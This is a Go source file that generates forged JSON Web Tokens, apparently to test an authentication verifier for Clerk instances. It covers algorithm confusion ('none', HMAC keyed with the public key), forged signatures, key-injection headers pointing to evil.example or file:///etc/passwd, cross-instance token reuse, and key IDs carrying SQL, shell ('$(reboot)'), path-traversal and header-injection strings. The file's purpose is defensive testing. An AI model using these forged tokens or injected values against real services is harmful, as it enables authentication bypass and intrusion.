package attack

import (
	"crypto"
	"encoding/base64"
	"strings"
)

// A seal is a production of the third part of a token.
type seal struct {
	name string
	sign signature
}

// Seals of an attacker: he has a key of his own, everybody's public keys, and a token
// that is valid, but not the key of the instance.
func forgedSeals(i *instance) []seal {
	stolen := i.session()[strings.LastIndexByte(i.session(), '.')+1:]
	signature, _ := base64.RawURLEncoding.DecodeString(stolen)
	modulus := i.private.N.Bytes()
	return []seal{
		{"unsigned", func(string) string { return "" }},
		{"another's signature", func(string) string { return string(signature) }},
		{"signed by another instance", instances().other.signs(crypto.SHA256)},
		{"a signature of zeros", func(string) string { return string(make([]byte, 256)) }},
		{"a signature of one", func(string) string { return string(make([]byte, 255)) + "\x01" }},
		{"the modulus as signature", func(string) string { return string(modulus) }},
		{"HMAC with the PEM", hmacWith(i.pem())},
		{"HMAC with the trimmed PEM", hmacWith(strings.TrimSpace(i.pem()))},
		{"HMAC with the DER", hmacWith(i.der())},
		{"HMAC with the modulus", hmacWith(string(modulus))},
		{"HMAC with the encoded modulus", hmacWith(encode(modulus))},
		{"HMAC with nothing", hmacWith("")},
		{"HMAC with the key ID", hmacWith(i.kid)},
	}
}

// genuineSeals are signatures of the instance's own key: nobody has them, so what is
// refused in spite of them is refused for what it says.
func genuineSeals(i *instance) []seal {
	return []seal{{"genuinely signed", i.signs(crypto.SHA256)}}
}

// tokens gives a token for each combination of header, payload and seal.
func tokens(headers, payloads rule, seals []seal) rule {
	var all rule
	for _, header := range headers {
		for _, payload := range payloads {
			for _, s := range seals {
				all = append(all, word{join(join(header.name, payload.name), s.name), token(header.text, payload.text, s.sign)})
			}
		}
	}
	return all
}

// member is a rule of JSON objects: those of base with one member changed to each value.
func member(base object, name string, values rule) rule {
	rest := strings.TrimPrefix(mustJSON(with(base, object{name: nil})), "{")
	return values.each(func(value string) string { return `{"` + name + `":` + value + "," + rest })
}

// oddAlgorithms are values of alg that name no algorithm of Clerk's.
var oddAlgorithms = oneOf(
	`"none"`, `"None"`, `"NONE"`, `"nOnE"`, `""`, `" "`, `"HS256"`, `"HS384"`, `"HS512"`, `"hs256"`, `"ES256"`, `"ES384"`, `"ES256K"`, `"EdDSA"`,
	`"PS256"`, `"PS384"`, `"PS512"`, `"RS1"`, `"RSA1_5"`, `"RSA-OAEP"`, `"dir"`, `"A128KW"`, `"rs256"`, `"Rs256"`, `"RS256 "`, `" RS256"`, `"RS256\u0000"`,
	`"RS256\n"`, `"RS256,none"`, `"\uff32\uff33256"`, `"RS2\u200b56"`, `null`, `true`, `256`, `["RS256"]`, `{"alg":"RS256"}`, `[]`, `1e400`,
)

// keyHints are members by which a token would like to say what key to verify it with.
func keyHints() rule {
	other := instances().other
	jwk := mustJSON(other.jwk())
	return oneOf(
		`"jwk":`+jwk, `"jwk":[`+jwk+`]`, `"jwks":{"keys":[`+jwk+`]}`, `"JWK":`+jwk, `"jwk":null`, `"jwk":"https://evil.example/jwk"`,
		`"jku":"https://evil.example/jwks"`, `"jku":"http://127.0.0.1:1/jwks"`, `"jku":"https://api.clerk.com@evil.example/v1/jwks"`,
		`"jku":"file:///etc/passwd"`, `"jku":["https://evil.example/jwks"]`, `"x5u":"https://evil.example/cert"`, `"x5u":"file:///dev/zero"`,
		`"x5c":["`+base64.StdEncoding.EncodeToString([]byte(other.der()))+`"]`, `"x5c":[]`, `"x5c":"MIIB"`, `"x5t":"AAAA"`, `"x5t#S256":"AAAA"`,
		`"epk":`+jwk, `"iss":"https://clerk.evil.example"`, `"pem":`+mustJSON(other.pem()), `"key":`+mustJSON(other.pem()),
	).each(func(member string) string {
		return "{" + member + "," + strings.TrimPrefix(mustJSON(production().header()), "{")
	})
}

// keyIDs are IDs that somebody may look up as a path, a query or a key of his own.
var keyIDs = either(oneOf(
	`""`, `null`, `0`, `true`, `[]`, `{}`, `["ins_production"]`, `"ins_other"`, `"INS_PRODUCTION"`, `"ins_production "`, `"ins_production\u0000"`,
	`"ins_production\n"`, `"ins_productio\u006e"`, `"../../../dev/null"`, `"/dev/null"`, `"file:///dev/null"`, `"..\\..\\keys"`, `"' OR '1'='1"`, `"1; DROP TABLE keys"`,
	`"https://evil.example/jwks"`, `"$(reboot)"`, `"%00"`, `"{{7*7}}"`, `"ins_\ud83d\ude00"`, `"x\r\nX-Evil: 1"`, `"__proto__"`, `"constructor"`,
), text(`a long one`, `"`+strings.Repeat("k", 4<<10)+`"`))

// criticalHeaders say that who does not understand them must refuse.
var criticalHeaders = oneOf(
	`"crit":["b64"],"b64":false`, `"crit":["exp"],"exp":1`, `"crit":[]`, `"crit":null`, `"crit":"alg"`, `"crit":["alg"]`, `"crit":[1]`, `"crit":["x","x"]`,
	`"crit":["https://evil.example/x"],"https://evil.example/x":true`, `"b64":false`, `"zip":"DEF"`, `"enc":"A128GCM"`, `"cty":"JWT"`, `"cty":"application/evil"`,
).each(func(member string) string {
	return "{" + member + "," + strings.TrimPrefix(mustJSON(production().header()), "{")
})

// intruders are payloads of an attacker who makes his own.
func intruders(i *instance) rule {
	return text("", mustJSON(with(i.claims(), object{"sub": intruder})))
}

// tokenFamilies attack what says how a token is signed, and by whom.
func tokenFamilies() []family {
	p := production()
	genuine := text("", mustJSON(p.header()))
	forged, all := forgedSeals(p), append(forgedSeals(p), genuineSeals(p)...)
	unnamed := text("alg absent", mustJSON(with(p.header(), object{"alg": nil})))
	otherHash := oneOf("RS384", "RS512").each(func(alg string) string { return mustJSON(with(p.header(), object{"alg": alg})) })
	wrongHash := []seal{{"signed by RS384", p.signs(crypto.SHA384)}, {"signed by RS512", p.signs(crypto.SHA512)}, {"signed by PS256", p.signsPSS}}
	return []family{
		carried("algorithms", onProduction, tokens(either(member(p.header(), "alg", oddAlgorithms), unnamed), intruders(p), all), byBearer),
		carried("algorithms in cookies", onProduction, tokens(member(p.header(), "alg", oddAlgorithms), intruders(p), []seal{all[0], all[6], all[len(all)-1]}), byCookie, bySuffixed),
		carried("signatures", onProduction, either(
			tokens(genuine, intruders(p), forged),
			tokens(genuine, text("claims of the victim", mustJSON(p.claims())), append(forged[:1:1], forged[2:]...)),
			tokens(genuine, intruders(p), wrongHash),
			tokens(otherHash, intruders(p), append(all, wrongHash...)),
		), anyCarrier...),
		carried("keys that a token names", onProduction, tokens(keyHints(), intruders(p), forged[:3]), mainCarriers...),
		carried("key IDs", onProduction, tokens(member(p.header(), "kid", keyIDs), intruders(p), []seal{forged[0], forged[2], forged[11]}), mainCarriers...),
		carried("critical headers", onProduction, tokens(criticalHeaders, intruders(p), forged[:3]), mainCarriers...),
		carried("another instance", onProduction, anothersTokens(p), anyCarrier...),
		carried("another instance in development", onDevelopment, anothersTokens(development()), anyCarrier...),
	}
}

// anothersTokens are genuine tokens of other instances, and such that only say to be of
// this one.
func anothersTokens(i *instance) rule {
	var all rule
	for _, other := range []*instance{instances().other, production(), development()} {
		if other == i {
			continue
		}
		all = append(all,
			word{other.kid + " as it is", other.session()},
			word{other.kid + " under our key ID", other.token(object{"kid": i.kid}, nil)},
			word{other.kid + " under our issuer", other.token(nil, object{"iss": "https://" + i.frontendAPI})},
			word{other.kid + " under our key ID and issuer", other.token(object{"kid": i.kid}, object{"iss": "https://" + i.frontendAPI})},
			word{other.kid + " with a key of ours inside", other.token(object{"kid": i.kid, "jwk": i.jwk()}, nil)},
			word{other.kid + " without a key ID", other.token(object{"kid": nil}, nil)},
		)
	}
	return all
}
